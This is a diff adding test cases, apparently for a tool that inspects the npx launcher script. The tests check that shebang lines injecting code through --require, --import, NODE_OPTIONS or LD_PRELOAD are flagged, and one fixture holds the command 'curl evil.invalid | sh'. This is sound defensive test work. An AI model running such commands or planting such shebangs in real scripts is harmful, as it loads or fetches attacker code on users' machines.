@@ -427,6 +427,63 @@ suite("interpreters", posix, () => {
   });
 });
 
+suite("first lines", posix, () => {
+  const NPX = "usr/lib/node_modules/npm/bin/npx-cli.js";
+
+  for (const [first, why] of [
+    ["#!/usr/bin/env -S node --require /tmp/x.js", "--require"],
+    ["#!/usr/bin/env -S node --import=./x.mjs", "--import"],
+    ["#!/usr/bin/env -S NODE_OPTIONS=--require=/tmp/x.js node", "NODE_OPTIONS"],
+    ["#!/usr/bin/env -S LD_PRELOAD=/tmp/x.so node", "LD_PRELOAD"],
+    ["#!/usr/bin/env -S node --what-is-this", "--what-is-this"],
+    ["#!/usr/bin/env -S python3 -c import,x", "python3"],
+    ["#!/usr/bin/env -S deno run --allow-all", "deno"],
+  ] as const)
+    test(`${first} is never clean`, () => {
+      using home = new LauncherHome();
+      for (const name of ["python3", "deno"]) home.binary(`usr/bin/${name}`, name);
+      home.script(NPX, first);
+      home.pin();
+      const { rules, verdict, findings } = home.judge();
+      assert.equal(verdict, "inconclusive", rules.join());
+      assert.match(findings[0]?.message ?? "", new RegExp(why));
+    });
+
+  for (const first of [
+    "#!/usr/bin/env -S node --no-warnings --max-old-space-size=4096",
+    "#!/usr/bin/env -S NODE_ENV=production node",
+    "#!/usr/bin/env -S python3 -sE",
+  ])
+    test(`${first} loads nothing else`, () => {
+      using home = new LauncherHome();
+      home.binary("usr/bin/python3", "python3");
+      home.script(NPX, first);
+      home.pin();
+      assert.deepEqual(home.judge().rules, []);
+    });
+
+  test("a Node that the line names itself is given its options as one word", () => {
+    using home = new LauncherHome();
+    home.script(NPX, `#!${home.at("usr/bin/node")} --require /tmp/x.js`);
+    home.pin();
+    assert.deepEqual(home.judge().rules, ["warning uncovered-code"]);
+  });
+
+  for (const [what, bytes] of [
+    ["zero bytes", "curl evil.invalid | sh\n\0\0\0"],
+    ["a mark of Unicode before it", "\ufeff#!/usr/bin/env node\n"],
+    ["a blank before it", " #!/usr/bin/env node\n"],
+    ["a picture's first bytes", "\u0089PNG\n"],
+  ] as const)
+    test(`a file with ${what} is handed to the shell by who starts it`, () => {
+      using home = new LauncherHome();
+      home.file(NPX, bytes, 0o755);
+      home.pin();
+      const { rules, verdict } = home.judge();
+      assert.deepEqual([rules, verdict], [["warning unfollowed-script"], "inconclusive"]);
+    });
+});
+
 suite("clients that find different programs", posix, () => {
   function judgedBoth(home: LauncherHome) {
     home.binary("opt/bin/node", "other");
